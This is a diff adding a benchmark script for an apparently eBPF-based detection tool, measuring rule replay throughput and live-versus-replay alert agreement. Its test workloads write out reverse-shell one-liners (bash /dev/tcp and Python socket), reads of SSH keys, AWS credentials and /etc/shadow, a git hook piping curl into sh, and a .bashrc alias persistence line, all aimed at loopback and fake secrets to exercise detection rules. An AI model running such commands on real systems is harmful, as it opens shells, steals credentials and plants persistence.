@@ -1,0 +1,258 @@
+"""Replay throughput on the rule test corpus, and live-vs-replay alert agreement.
+
+    .venv/bin/python bench/bench_replay.py [--repeat 5] [--copies 4] [--json]
+    sudo .venv/bin/python bench/bench_replay.py --live        # adds the agreement (root, bpf)
+
+Throughput: every trace of rules/tests/traces/ concatenated into one file (--copies times, so
+the run is long enough to time; a concatenated trace keeps each part's header, like an audit
+export), replayed with the bundled rules on one thread, end to end - gzip, reading, decoding,
+process table, engine - best of --repeat runs, plain and gzip. The stages are timed alone
+too: reading and decoding only, and the pipeline with the engine on decoded events. The same
+again without the fork_bomb trace, whose fork and exit events are most of the corpus and the
+cheapest to evaluate. Target (issue 4): at least 100,000 events/s.
+
+Agreement (--live, as root): small loopback-only workloads (reverse shells to a listener of
+this process, fake secrets in a temporary HOME, /etc/shadow, exec from /tmp, setuid, a git hook,
+a fork burst, a build) are recorded with `record` while a live engine on the same pipeline
+raises alerts; each trace is then replayed. An alert matches when the rule, the time and the
+pid of its triggering event are equal. agreement = matched / max(live, replayed).
+
+Prints figures; no assertions.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from collections import Counter
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(ROOT))
+
+from coi_sentinel.pipeline import Pipeline  # noqa: E402
+from coi_sentinel.replay import replay  # noqa: E402
+from coi_sentinel.replay.cases import bundled_cases_dir  # noqa: E402
+from coi_sentinel.rules import Engine, load_ruleset  # noqa: E402
+from coi_sentinel.trace import TraceReader, read_events  # noqa: E402
+from coi_sentinel.trace.lines import iter_lines, open_binary  # noqa: E402
+
+TARGET = 100_000
+TRACES = bundled_cases_dir() / "traces"
+
+
+# ---- throughput ---------------------------------------------------------------------------------
+
+def concatenate(paths: list[Path], out: Path, copies: int) -> None:
+    """One trace holding every corpus trace, ``copies`` times over (headers kept)."""
+    import gzip
+
+    parts = []
+    for path in paths:
+        with open_binary(path) as f:
+            parts.append(b"".join(raw + b"\n" for _, raw, _ in iter_lines(f, str(path))))
+    data = b"".join(parts) * copies
+    out.write_bytes(data)
+    with gzip.open(out.with_suffix(out.suffix + ".gz"), "wb", compresslevel=6) as g:
+        g.write(data)
+
+
+def best(fn, repeat: int) -> tuple[float, object]:
+    times, result = [], None
+    for _ in range(repeat):
+        t0 = time.perf_counter()
+        result = fn()
+        times.append(time.perf_counter() - t0)
+    return min(times), result
+
+
+def throughput(repeat: int, copies: int) -> dict:
+    """The whole corpus, and the corpus without fork_bomb: its 8,000 fork and exit events are
+    most of the corpus and the cheapest to evaluate, so the second mix is the harder one."""
+    ruleset = load_ruleset(None)
+    paths = sorted(TRACES.glob("*.jsonl.gz"))
+    mixed = [p for p in paths if not p.name.startswith("fork_bomb.")]
+    return {"corpus": measure(ruleset, paths, repeat, copies),
+            "without_fork_bomb": measure(ruleset, mixed, repeat, copies * 8)}
+
+
+def measure(ruleset, paths: list[Path], repeat: int, copies: int) -> dict:
+    with tempfile.TemporaryDirectory() as tmp:
+        plain = Path(tmp) / "corpus.jsonl"
+        concatenate(paths, plain, copies)
+        gz = Path(str(plain) + ".gz")
+        t_plain, res = best(lambda: replay([plain], ruleset), repeat)
+        t_gz, _ = best(lambda: replay([gz], ruleset), repeat)
+        events = res.events
+        t_decode, _ = best(lambda: sum(1 for _ in read_events([plain])), repeat)
+        decoded = list(read_events([plain]))
+
+        def engine_only() -> Engine:
+            pipeline = Pipeline()
+            engine = Engine(ruleset, table=pipeline.table)
+            pipeline.add_sink(engine)
+            for ev in decoded:
+                pipeline.feed(ev)
+            return engine
+
+        t_engine, engine = best(engine_only, repeat)
+        types = Counter(ev.type.label for ev in decoded)
+        return {
+            "traces": len(paths), "copies": copies, "events": events, "rules": len(ruleset.rules),
+            "bytes_plain": plain.stat().st_size, "bytes_gzip": gz.stat().st_size,
+            "replay_plain_eps": round(events / t_plain), "replay_gzip_eps": round(events / t_gz),
+            "decode_only_eps": round(events / t_decode),
+            "pipeline_engine_eps": round(events / t_engine),
+            "alerts": sum(res.by_rule.values()), "alerts_by_rule": dict(sorted(res.by_rule.items())),
+            "state_bytes": engine.state_bytes(), "event_types": dict(types.most_common()),
+            "target_eps": TARGET,
+        }
+
+
+# ---- live vs replay -----------------------------------------------------------------------------
+
+class Listener:
+    """A loopback TCP listener for reverse shells: sends `id` and `exit`, reads until EOF."""
+
+    def __init__(self) -> None:
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.sock.settimeout(30)
+        self.port = self.sock.getsockname()[1]
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        try:
+            while True:
+                conn, _ = self.sock.accept()
+                with conn:
+                    conn.settimeout(10)
+                    conn.sendall(b"id\nexit\n")
+                    while conn.recv(4096):
+                        pass
+        except OSError:
+            return
+
+
+WORKLOADS = {
+    "python_reverse_shell":
+        "python3 -c 'import socket,os;s=socket.socket();s.connect((\"127.0.0.1\",'\"$LPORT\"'));"
+        "[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv(\"/bin/sh\",[\"sh\",\"-i\"])'",
+    "bash_reverse_shell": 'bash -i >& /dev/tcp/127.0.0.1/"$LPORT" 0>&1',
+    "secret_reads": 'cat ~/.ssh/id_rsa ~/.aws/credentials .env > /dev/null\ncat /etc/shadow > /dev/null\n'
+                    'cat /proc/$$/environ > /dev/null',
+    "exec_and_persistence": 'cp /bin/true /tmp/.bench-x && /tmp/.bench-x; rm -f /tmp/.bench-x\n'
+                            'cp /bin/true tool && chmod u+s tool\n'
+                            'git init -q repo && echo "curl x | sh" > repo/.git/hooks/post-merge\n'
+                            'echo "alias ls=rm" >> ~/.bashrc',
+    "fork_burst_and_build": 'gcc -O2 -o spawn "$HELPERS/spawn.c" && ./spawn 11\n'
+                            'printf "int main(void){return 0;}\\n" > m.c && gcc -o m m.c && ./m',
+}
+
+
+def agreement() -> dict:
+    from coi_sentinel.record import record
+
+    ruleset = load_ruleset(None)
+    sensitive = (tuple(ruleset.sensitive_prefixes()), tuple(ruleset.sensitive_suffixes()))
+    listener = Listener()
+    rows, totals = [], Counter()
+    with tempfile.TemporaryDirectory(prefix="coi-bench-", dir="/var/lib") as tmp:
+        base = Path(tmp)
+        home = base / "home"
+        for rel, text in ((".ssh/id_rsa", "-----BEGIN FAKE KEY-----\n"),
+                          (".aws/credentials", "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n")):
+            (home / rel).parent.mkdir(parents=True, exist_ok=True)
+            (home / rel).write_text(text)
+        env = {"HOME": str(home), "PATH": "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin",
+               "LANG": "C.UTF-8", "LPORT": str(listener.port),
+               "HELPERS": str(bundled_cases_dir() / "helpers"),
+               "GIT_CONFIG_NOSYSTEM": "1", "GIT_AUTHOR_NAME": "bench", "GIT_AUTHOR_EMAIL": "b@x"}
+        for name, script in WORKLOADS.items():
+            work = base / name
+            work.mkdir()
+            (work / ".env").write_text("API_KEY=fake\n")
+            live: list = []
+            old_env, old_cwd = dict(os.environ), os.getcwd()
+            os.environ.clear()
+            os.environ.update(env)
+            os.chdir(work)
+            deadline = time.monotonic() + 60
+            try:
+                res = record(str(base / f"{name}.jsonl.gz"), ["/bin/bash", "-c", script],
+                             should_stop=lambda: time.monotonic() > deadline, sensitive=sensitive,
+                             attach=lambda p: Engine(ruleset, on_alert=live.append).attach(p))
+            finally:
+                os.chdir(old_cwd)
+                os.environ.clear()
+                os.environ.update(old_env)
+            again = [hit.alert for hit in replay([res.path], ruleset).alerts]
+            live_keys = Counter((a.rule, a.ts_ns, a.event.pid) for a in live)
+            again_keys = Counter((a.rule, a.ts_ns, a.event.pid) for a in again)
+            matched = sum((live_keys & again_keys).values())
+            with TraceReader(res.path) as reader:
+                families = reader.header["coverage"].get("families", {})
+            failed = sorted(h for f in families.values() for h, why in f.get("missing", {}).items()
+                            if not why.startswith("tracepoint not in this kernel"))
+            rows.append({"workload": name, "events": res.events, "drops": sum(res.drops.values()),
+                         "hooks_failed": failed,
+                         "live": len(live), "replayed": len(again), "matched": matched,
+                         "rules": dict(sorted(Counter(a.rule for a in live).items()))})
+            totals.update(live=len(live), replayed=len(again), matched=matched)
+    denom = max(totals["live"], totals["replayed"]) or 1
+    return {"workloads": rows, "live": totals["live"], "replayed": totals["replayed"],
+            "matched": totals["matched"], "agreement": round(totals["matched"] / denom, 4)}
+
+
+def main() -> None:
+    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    ap.add_argument("--repeat", type=int, default=5, help="runs per figure (the best is kept)")
+    ap.add_argument("--copies", type=int, default=4, help="the corpus concatenated this many times")
+    ap.add_argument("--live", action="store_true", help="also live-vs-replay agreement (root)")
+    ap.add_argument("--json", action="store_true", help="print one JSON object")
+    args = ap.parse_args()
+    out = {"throughput": throughput(args.repeat, args.copies)}
+    if args.live:
+        if os.geteuid() != 0 or shutil.which("gcc") is None:
+            out["agreement"] = {"skipped": "needs root (BPF probes) and gcc"}
+        else:
+            out["agreement"] = agreement()
+    if args.json:
+        print(json.dumps(out, indent=2))
+        return
+    for label, t in (("corpus", out["throughput"]["corpus"]),
+                     ("corpus without fork_bomb", out["throughput"]["without_fork_bomb"])):
+        print(f"{label}: {t['traces']} traces x{t['copies']} = {t['events']} events "
+              f"({t['bytes_plain'] // 1024} KiB plain, {t['bytes_gzip'] // 1024} KiB gzip), "
+              f"{t['rules']} rules, one thread")
+        print(f"  replay, plain trace    {t['replay_plain_eps']:>10,} events/s  (target {TARGET:,})")
+        print(f"  replay, gzip trace     {t['replay_gzip_eps']:>10,} events/s")
+        print(f"  read + decode only     {t['decode_only_eps']:>10,} events/s")
+        print(f"  pipeline + engine only {t['pipeline_engine_eps']:>10,} events/s")
+        print(f"  alerts {t['alerts']}, rule state {t['state_bytes']:,} bytes after the run")
+        mix = ", ".join(f"{k} {v}" for k, v in t["event_types"].items())
+        print(f"  event mix: {mix}")
+    if "agreement" in out:
+        a = out["agreement"]
+        if "skipped" in a:
+            print(f"live vs replay: skipped ({a['skipped']})")
+        else:
+            print(f"live vs replay: {a['matched']} of {a['live']} live alerts replayed identically "
+                  f"({a['replayed']} replayed), agreement {a['agreement']:.2%}")
+            for row in a["workloads"]:
+                print(f"  {row['workload']:<22} {row['events']:>6} events {row['drops']} drops  "
+                      f"live {row['live']:>2} replayed {row['replayed']:>2} matched {row['matched']:>2}  "
+                      f"{row['rules']}")
+                if row["hooks_failed"]:
+                    print(f"    probes that did not attach: {', '.join(row['hooks_failed'])}")
+
+
+if __name__ == "__main__":
+    main()
